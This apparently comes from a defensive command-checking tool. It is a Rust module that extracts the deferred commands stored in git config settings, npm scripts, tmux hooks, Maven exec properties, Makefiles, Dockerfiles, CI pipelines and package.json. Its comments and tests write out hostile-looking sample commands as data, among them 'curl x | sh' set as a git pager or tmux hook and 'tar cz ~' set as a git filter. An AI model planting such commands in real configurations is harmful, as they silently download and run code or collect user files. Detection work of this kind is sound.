//! Commands stored now and run later by another program: git's
//! command-valued settings (`core.pager`, `core.sshCommand`, `!` aliases,
//! filter and diff drivers, credential helpers), npm package scripts,
//! tmux hooks and key bindings, Maven's exec plugin, and the text written
//! into files other programs run (pipelines, Makefiles, Dockerfiles,
//! hooks, `.envrc`, package scripts). Whatever such a
//! setting will run is judged as if it ran now: `git config core.pager
//! 'curl …| sh'` downloads and runs code on the next `git log`.

/// Whether the git setting `key` (lower-case) holds a command to run.
fn git_command_key(key: &str, value: &str) -> bool {
    let shell_helper = value.starts_with('!') || value.starts_with('/');
    match key {
        "core.pager"
        | "core.editor"
        | "core.sshcommand"
        | "core.fsmonitor"
        | "core.askpass"
        | "sequence.editor"
        | "diff.external"
        | "gpg.program"
        | "uploadpack.packobjectshook"
        | "sendemail.sendmailcmd"
        | "sendemail.tocmd"
        | "sendemail.cccmd" => true,
        _ if key.starts_with("pager.") || key.starts_with("man.") && key.ends_with(".cmd") => true,
        _ if key.starts_with("alias.") => value.starts_with('!'),
        _ if key.starts_with("credential.") && key.ends_with("helper") => shell_helper,
        _ => {
            let last = key.rsplit('.').next().unwrap_or("");
            let section = key.split('.').next().unwrap_or("");
            matches!(
                (section, last),
                ("filter", "clean" | "smudge" | "process")
                    | ("diff", "textconv" | "command")
                    | ("merge", "driver")
                    | ("gpg", "program")
                    | ("mergetool" | "difftool", "cmd")
            )
        }
    }
}

/// The command a git setting will run, without the `!` that marks a shell
/// command in aliases and helpers.
fn git_setting(key: &str, value: &str, out: &mut Vec<String>) {
    let key = key.to_ascii_lowercase();
    if git_command_key(&key, value) && !value.trim().is_empty() {
        out.push(value.trim().trim_start_matches('!').to_string());
    }
}

/// Commands in `git -c key=value …` and `git config [set] key value`.
pub fn git(args: &[String]) -> Vec<String> {
    let mut out = Vec::new();
    let mut i = 0;
    while i < args.len() {
        let a = args[i].as_str();
        if a == "-c" {
            if let Some((k, v)) = args.get(i + 1).and_then(|kv| kv.split_once('=')) {
                git_setting(k, v, &mut out);
            }
            i += 2;
            continue;
        }
        if a == "config" {
            let operands: Vec<&String> = args[i + 1..]
                .iter()
                .scan(false, |skip, x| {
                    let keep = !*skip && !x.starts_with('-');
                    *skip = matches!(x.as_str(), "-f" | "--file" | "--blob" | "--type");
                    Some((keep, x))
                })
                .filter_map(|(keep, x)| keep.then_some(x))
                .collect();
            let operands = match operands.first().map(|s| s.as_str()) {
                Some("set" | "add") => &operands[1..],
                _ => &operands[..],
            };
            if let [key, value, ..] = operands {
                git_setting(key, value, &mut out);
            }
            break;
        }
        if !a.starts_with('-') {
            break;
        }
        i += 1;
    }
    out
}

/// `npm pkg set scripts.postinstall="…"`, `npm set-script build "…"`: npm
/// runs package scripts with a shell.
pub fn npm(args: &[String]) -> Vec<String> {
    let mut out = Vec::new();
    match (
        args.first().map(String::as_str),
        args.get(1).map(String::as_str),
    ) {
        (Some("pkg"), Some("set")) => {
            for a in &args[2..] {
                if let Some((k, v)) = a.split_once('=') {
                    if k.starts_with("scripts.") {
                        out.push(v.to_string());
                    }
                }
            }
        }
        (Some("set-script"), Some(_)) => out.extend(args.get(2).cloned()),
        _ => {}
    }
    out
}

/// `tmux set-hook -g session-created 'run-shell "…"'`, `tmux bind x
/// run-shell "…"`, `tmux run-shell "…"`: tmux runs these with a shell
/// (new sessions and `send-keys` are in [`super::runners`]).
pub fn tmux(args: &[String]) -> Vec<String> {
    let mut out = Vec::new();
    for (i, a) in args.iter().enumerate() {
        match a.as_str() {
            "run-shell" | "run" | "if-shell" | "if" | "pipe-pane" | "pipep" => {
                if let Some(cmd) = args[i + 1..].iter().find(|x| !x.starts_with('-')) {
                    out.push(cmd.clone());
                }
            }
            _ => {
                // A hook or binding given as one string: `'run-shell "…"'`.
                for prefix in ["run-shell ", "run ", "if-shell "] {
                    if let Some(rest) = a.trim().strip_prefix(prefix) {
                        out.push(rest.trim().trim_matches(['"', '\'']).to_string());
                    }
                }
            }
        }
    }
    out
}

/// `mvn exec:exec -Dexec.executable=sh -Dexec.args="-c '…'"`.
pub fn maven(args: &[String]) -> Vec<String> {
    let prop = |name: &str| {
        args.iter()
            .find_map(|a| a.strip_prefix("-D").and_then(|p| p.strip_prefix(name)))
            .and_then(|v| v.strip_prefix('='))
    };
    match prop("exec.executable") {
        Some(program) => vec![format!("{program} {}", prop("exec.args").unwrap_or(""))],
        None => Vec::new(),
    }
}

/// The commands in text written to a file another program runs later: a
/// shell file or hook (`.envrc`, `*.sh`, `.git/hooks/*`, `.husky/*`), a
/// Makefile's recipes, a Dockerfile's `RUN` lines, a CI pipeline's `run:`
/// steps and script items, a Jenkinsfile's `sh` steps, and the string
/// values of `package.json` scripts and editor task files.
pub fn in_file(path: &str, text: &str) -> Vec<String> {
    // `echo -e` / `printf` text keeps its `\n` escapes here.
    let unescaped;
    let text = if !text.contains('\n') && text.contains("\\n") {
        unescaped = text.replace("\\n", "\n").replace("\\t", "\t");
        unescaped.as_str()
    } else {
        text
    };
    let name = path.rsplit('/').next().unwrap_or(path);
    let lower = name.to_ascii_lowercase();
    let ci = path.contains(".github/workflows/")
        || path.contains(".circleci/")
        || matches!(
            lower.as_str(),
            ".gitlab-ci.yml" | "azure-pipelines.yml" | "bitbucket-pipelines.yml" | ".drone.yml"
        );
    let lines = text.lines().map(str::trim);
    if lower == ".envrc"
        || lower.ends_with(".sh")
        || lower.ends_with(".bash")
        || path.contains(".git/hooks/")
        || path.contains(".husky/")
    {
        vec![text.to_string()]
    } else if matches!(lower.as_str(), "makefile" | "gnumakefile") || lower.ends_with(".mk") {
        make_recipes(text)
    } else if lower.starts_with("dockerfile") || lower.starts_with("containerfile") {
        lines
            .filter_map(|l| l.strip_prefix("RUN ").or_else(|| l.strip_prefix("run ")))
            .map(str::to_string)
            .collect()
    } else if ci {
        lines
            .filter_map(|l| {
                let l = l.trim_start_matches("- ").trim();
                l.strip_prefix("run:").map(str::trim).or(Some(l))
            })
            .map(|l| l.trim_matches(['"', '\'']).to_string())
            .filter(|l| !l.is_empty() && !l.ends_with(':'))
            .collect()
    } else if lower == "jenkinsfile" {
        jenkins_steps(text)
    } else if matches!(
        lower.as_str(),
        "package.json" | "composer.json" | "tasks.json" | "launch.json" | "deno.json"
    ) {
        json_strings(text)
    } else if lower == ".pre-commit-config.yaml" || lower == ".pre-commit-hooks.yaml" {
        // A local hook's `entry` is the command it runs (as YAML or as the
        // JSON a yq filter adds).
        lines
            .filter_map(|l| l.trim_start_matches("- ").strip_prefix("entry:"))
            .map(|l| l.trim().trim_matches(['"', '\'']).to_string())
            .chain(
                json_strings(text)
                    .into_iter()
                    .filter(|s| s.contains(' ') || s.contains('|')),
            )
            .collect()
    } else {
        Vec::new()
    }
}

/// A Makefile's recipe lines (targets and variable settings left out),
/// with make's `$$` as the shell's `$`. A tab written as `\t` by an
/// editing command (`sed '/^build:/a\t@…'`) counts as one.
fn make_recipes(text: &str) -> Vec<String> {
    static HEAD: std::sync::LazyLock<regex::Regex> = std::sync::LazyLock::new(|| {
        regex::Regex::new(r"^[\w./%$() -]+\s*(?::|[:?+!]?=)").expect("static regex")
    });
    text.lines()
        .map(|l| {
            let l = l.trim_start();
            let l = l.strip_prefix("\\t").unwrap_or(l);
            match l.strip_prefix('t') {
                Some(rest) if rest.starts_with('@') => rest,
                _ => l,
            }
        })
        .filter(|l| !l.is_empty() && !l.starts_with('#') && !HEAD.is_match(l))
        .map(|l| l.trim_start_matches(['@', '-', '+']).replace("$$", "$"))
        .collect()
}

/// `sh 'cmd'` / `sh "cmd"` steps.
fn jenkins_steps(text: &str) -> Vec<String> {
    static R: std::sync::LazyLock<regex::Regex> = std::sync::LazyLock::new(|| {
        regex::Regex::new(r#"\bsh\s*\(?\s*(?:'([^'\n]*)'|"((?:[^"\\\n]|\\.)*)")"#)
            .expect("static regex")
    });
    R.captures_iter(text)
        .filter_map(|c| c.get(1).or_else(|| c.get(2)))
        .map(|m| m.as_str().replace("\\|", "|"))
        .collect()
}

/// The string values of JSON text (`"preinstall": "curl … | sh"`), and
/// of jq/yq expressions that set one (`.scripts.x="…"`, `{"run": "…"}`).
pub fn json_strings(text: &str) -> Vec<String> {
    static R: std::sync::LazyLock<regex::Regex> = std::sync::LazyLock::new(|| {
        regex::Regex::new(r#"(?:"[\w:.-]+"\s*:|\.[\w-]+(?:\[\s*"[^"]*"\s*\])*\s*\|?=|\brun\s*:)\s*\[?\s*"((?:[^"\\]|\\.)*)""#)
            .expect("static regex")
    });
    R.captures_iter(text)
        .filter_map(|c| c.get(1))
        .map(|m| m.as_str().replace("\\\"", "\""))
        .filter(|v| v.contains(' '))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(s: &[&str]) -> Vec<String> {
        s.iter().map(|w| w.to_string()).collect()
    }

    #[test]
    fn git_settings_that_run_commands() {
        assert_eq!(
            git(&words(&["config", "--global", "core.pager", "curl x | sh"])),
            ["curl x | sh"]
        );
        assert_eq!(
            git(&words(&[
                "config",
                "--global",
                "alias.st",
                "!f(){ id; }; f"
            ])),
            ["f(){ id; }; f"]
        );
        assert_eq!(
            git(&words(&["config", "filter.x.clean", "tar cz ~"])),
            ["tar cz ~"]
        );
        assert_eq!(
            git(&words(&["config", "set", "core.sshCommand", "ssh -i k"])),
            ["ssh -i k"]
        );
        assert_eq!(git(&words(&["-c", "core.pager=id", "log"])), ["id"]);
        // Settings that are not commands, and helpers named by program.
        assert!(git(&words(&["config", "user.name", "Ada"])).is_empty());
        assert!(git(&words(&["config", "alias.co", "checkout"])).is_empty());
        assert!(git(&words(&["config", "credential.helper", "store"])).is_empty());
        assert!(git(&words(&["config", "--get", "core.pager"])).is_empty());
        assert!(git(&words(&["log", "--oneline"])).is_empty());
    }

    #[test]
    fn npm_tmux_and_maven_commands() {
        assert_eq!(
            npm(&words(&["pkg", "set", "scripts.postinstall=node x.js"])),
            ["node x.js"]
        );
        assert!(npm(&words(&["pkg", "set", "version=1.2.0"])).is_empty());
        assert_eq!(
            tmux(&words(&[
                "set-hook",
                "-g",
                "session-created",
                "run-shell \"curl x | sh\""
            ])),
            ["curl x | sh"]
        );
        assert_eq!(
            tmux(&words(&["run-shell", "-b", "make test"])),
            ["make test"]
        );
        assert!(tmux(&words(&["new", "-s", "work"])).is_empty());

        assert_eq!(
            maven(&words(&[
                "exec:exec",
                "-Dexec.executable=sh",
                "-Dexec.args=-c id"
            ])),
            ["sh -c id"]
        );
        assert!(maven(&words(&["test", "-DskipTests"])).is_empty());
    }
}
